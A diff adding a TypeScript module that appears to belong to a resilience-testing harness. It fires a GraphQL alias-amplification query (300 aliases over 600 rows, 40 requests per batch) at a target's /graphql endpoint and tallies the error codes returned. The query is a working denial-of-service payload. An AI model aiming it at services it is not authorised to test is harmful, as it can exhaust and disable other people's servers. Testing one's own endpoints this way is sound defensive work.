@@ -1,0 +1,24 @@
+// GraphQL's largest answers, many at once: 600 rows, of each one column under 300 names.
+
+import { ask } from "../ask.ts";
+import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
+import { JSON_TYPE } from "../callers.ts";
+
+const AT_ONCE = 40;
+const ALIASES = Array.from({ length: 300 }, (_, index) => `a${index}: content`).join(" ");
+const BODY = JSON.stringify({ query: `{ articles(first: 600) { edges { node { ${ALIASES} } } } }` });
+
+export const attack: Attack = async (target) => {
+  const outcomes = new Outcomes();
+  await repeat(target, { times: AT_ONCE, pauseMs: 250 }, async () => {
+    try {
+      const { status, text } = await ask(`${target.url}/graphql`, { method: "POST", headers: JSON_TYPE, body: BODY });
+      outcomes.count(/"code":"([A-Z_]+)"/.exec(text)?.[1] ?? String(status));
+    } catch (error) {
+      const failure = failureOf(error);
+      outcomes.count(failure);
+      outcomes.fault(`an answer in place of which there is ${failure}`);
+    }
+  });
+  return outcomes.result;
+};
